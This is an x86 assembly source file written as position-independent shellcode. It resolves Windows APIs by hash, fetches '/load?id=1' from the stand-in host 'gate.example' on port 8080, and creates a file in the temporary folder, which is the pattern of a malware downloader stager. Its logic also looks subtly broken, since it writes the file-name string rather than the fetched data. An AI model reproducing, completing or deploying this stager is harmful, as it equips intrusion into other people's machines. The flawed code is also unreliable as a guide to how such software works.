# Puts a request together from host, port and path; writes what it reads into a file of the temporary folder.
.include "common.inc"
start:
  find_kernel32
  sub esp, 0x200
  mov ebp, esp
  jmp data
begin:
  pop edi
  push edi
  call_by_hash LoadLibraryA
  mov [ebp], ebx
  mov ebx, eax
  push 0
  push 0
  push 0
  push 0
  lea eax, [edi + agent - texts]
  push eax
  call_by_hash InternetOpenA
  push 0
  push 0
  push 3
  push 0
  push 0
  push 8080
  lea ecx, [edi + host - texts]
  push ecx
  push eax
  call_by_hash InternetConnectA
  push 0
  push 0
  push 0
  push 0
  push 0
  lea ecx, [edi + path - texts]
  push ecx
  push 0
  push eax
  call_by_hash HttpOpenRequestA
  mov esi, eax
  push 0
  push 0
  push 0
  push 0
  push esi
  call_by_hash HttpSendRequestA
  lea eax, [ebp + 4]
  push eax
  push 64
  lea eax, [ebp + 0x40]
  push eax
  push esi
  call_by_hash InternetReadFile
  mov ebx, [ebp]
  lea eax, [ebp + 0x80]
  push eax
  push 0x100
  call_by_hash GetTempPathA
  lea eax, [edi + name - texts]
  push eax
  lea eax, [ebp + 0x80]
  push eax
  call_by_hash lstrcatA
  push 0
  push 0
  push 2
  push 0
  push 0
  push 0x40000000
  lea eax, [ebp + 0x80]
  push eax
  call_by_hash CreateFileA
  mov esi, eax
  push 0
  lea eax, [ebp + 8]
  push eax
  push 8
  lea eax, [edi + name - texts]
  push eax
  push esi
  call_by_hash WriteFile
  push esi
  call_by_hash CloseHandle
  push 0
  call_by_hash ExitProcess
find_function_code
data:
  call begin
texts:
  .asciz "wininet"
agent:
  .asciz "specimen"
host:
  .asciz "gate.example"
path:
  .asciz "/load?id=1"
name:
  .asciz "specimen.tmp"
